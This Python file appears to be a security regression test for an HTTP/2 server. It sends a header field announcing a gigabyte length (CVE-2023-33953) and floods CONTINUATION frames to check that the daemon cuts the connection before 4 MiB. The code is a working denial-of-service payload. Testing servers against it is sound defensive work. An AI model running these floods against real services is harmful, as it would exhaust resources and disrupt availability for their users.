"""A header field that announces a gigabyte (CVE-2023-33953), and blocks of very many fields."""

from cases import SOURCE, going
from http2 import CONTINUATION, HEADERS, HEALTH, PREFACE, SETTINGS, call_headers, connect, frame, literal

SLICE = True
MOST = 4 << 20


def bomb(target, begin, more, until):
    """Bytes that the daemon took before it ended the connection."""
    sent = 0
    try:
        one = connect(target, SOURCE, timeout=5.0)
        one.sendall(PREFACE + frame(SETTINGS, 0, 0) + frame(HEADERS, 0, 1, begin))
        while sent < MOST and going(until):
            one.sendall(more)
            sent += len(more)
        one.close()
    except OSError:
        pass
    return sent


def attack(target, until):
    start = call_headers(HEALTH)
    field = start + literal("x", "")[:-1] + b"\x7f\x81\xff\xff\xff\x03"
    while going(until):
        for begin, more in ((field, b"x" * 1024), (start, literal("y", "y" * 1000))):
            sent = bomb(target, begin, frame(CONTINUATION, 0, 1, more), until)
            assert sent < MOST, f"the daemon took {sent} bytes of one header block"
